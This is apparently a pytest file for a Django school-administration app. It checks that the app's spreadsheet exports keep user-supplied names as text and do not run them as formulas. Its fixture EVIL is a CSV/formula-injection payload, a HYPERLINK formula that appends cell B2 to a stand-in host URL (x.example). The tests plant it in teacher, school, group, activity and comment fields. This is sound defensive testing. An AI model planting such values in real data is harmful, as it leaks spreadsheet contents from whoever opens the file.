"""Issue 8 point 7: a name a spreadsheet would run as a formula stays text in
every .xlsx export (the one writer, accounts.exports)."""

import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from accounts.exports import FORMULA_STARTS, xlsx_bytes
from accounts.models import School, User
from groups.models import GroupMember, ResearchGroup

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://x.example/?"&B2,"点这里")'


def assert_no_formula(content: bytes, expected: str = EVIL) -> None:
    """No sheet has a formula element, and the text shows as typed, quote-prefixed."""
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>]", z.read(name)), name
    found = []
    for ws in load_workbook(io.BytesIO(content)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value == expected:
                    assert cell.data_type == "s" and cell.quotePrefix
                    found.append(cell)
    assert found, "the name is in the export, as text"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_writer_keeps_each_dangerous_start_as_text(start):
    assert_no_formula(xlsx_bytes("t", ["名"], [[f"{start}1+1"]]), f"{start}1+1")


@pytest.fixture
def evil(cast):
    User.objects.filter(pk=cast.teacher2.pk).update(real_name=EVIL)
    cast.teacher2.refresh_from_db()
    group = ResearchGroup.objects.create(school=cast.school, name=EVIL, leader=cast.teacher2)
    GroupMember.objects.create(group=group, user=cast.teacher2)
    GroupMember.objects.create(group=group, user=cast.teacher)
    School.objects.filter(pk=cast.school.pk).update(name=EVIL)
    return group


def test_roster_export(cast, as_user, evil):
    response = as_user(cast.school_admin).get(reverse("accounts:roster"), {"export": "xlsx"})
    assert_no_formula(response.content)


@pytest.mark.parametrize("kind", ["schools", "teachers"])
def test_district_exports(cast, as_user, evil, kind, django_capture_on_commit_callbacks):
    from assessment.models import DistrictExport

    client = as_user(cast.district_admin)
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("assessment:district_export_start"), {"kind": kind})
    export = DistrictExport.objects.get(kind=kind)
    response = client.get(reverse("assessment:district_export_file", args=[export.key]))
    assert_no_formula(b"".join(response.streaming_content))


def test_group_list_export(cast, as_user, evil):
    response = as_user(cast.school_admin).get(reverse("groups:list"), {"export": "xlsx"})
    assert_no_formula(response.content)


def test_school_hours_export(cast, as_user, evil):
    response = as_user(cast.school_admin).get(reverse("hours:school"), {"export": "xlsx"})
    assert_no_formula(response.content)


def test_group_hours_export(cast, as_user, evil):
    response = as_user(cast.teacher2).get(reverse("hours:group"), {"export": "xlsx"})
    assert_no_formula(response.content)


def test_new_teachers_password_slip(cast, as_user):
    import base64

    from openpyxl import Workbook

    from accounts.demo_ids import make_id_number

    wb = Workbook()
    wb.active.append(["姓名", "手机号", "身份证号"])
    wb.active.append([EVIL, "13712340001", make_id_number(9001)])
    wb.active["A2"].data_type = "s"  # typed as text, as a person would get it into a roster
    buf = io.BytesIO()
    wb.save(buf)
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = as_user(cast.school_admin).post(
        reverse("accounts:roster_import"), {"file": SimpleUploadedFile("r.xlsx", buf.getvalue())}
    )
    slip = response.context["slip"]
    assert_no_formula(base64.b64decode(slip.split(",", 1)[1]))


def test_checkin_sheet_export(cast, as_user, evil):
    """Issue 14: the 签到表 names the school, the group and the people as text."""
    from django.utils import timezone

    from activities import services
    from activities.models import CheckIn

    from . import factories_activities as fa

    s = fa.group_setup(cast, group_name="组")
    a = fa.activity(s, "offline", held_on=timezone.localdate(), hours=2, title=EVIL)
    services.checkin_open(activity=a, by=s.leader)
    CheckIn.objects.create(
        activity=a, user=cast.teacher2, method="manual", by=s.leader, reason=EVIL
    )
    response = as_user(s.leader).get(reverse("activities:checkin_sheet_xlsx", args=[a.pk]))
    assert_no_formula(response.content)


def test_observation_export_with_moment_comments(cast, as_user, evil):
    """Issue 14: the responses and the comments pinned to moments of the video."""
    from activities import services
    from activities.models import VideoComment

    from . import factories_activities as fa

    s = fa.group_setup(cast, group_name="组")
    a = fa.activity(s, "observation")
    services.participation_join(activity=a, user=cast.teacher2)  # 王老师 is named EVIL
    services.observation_submit(activity=a, user=cast.teacher2, raw_answers=fa.answers_for(a))
    VideoComment.objects.create(activity=a, author=cast.teacher, second=75, body=EVIL)
    response = as_user(s.leader).get(reverse("activities:observation_export", args=[a.pk]))
    assert_no_formula(response.content)
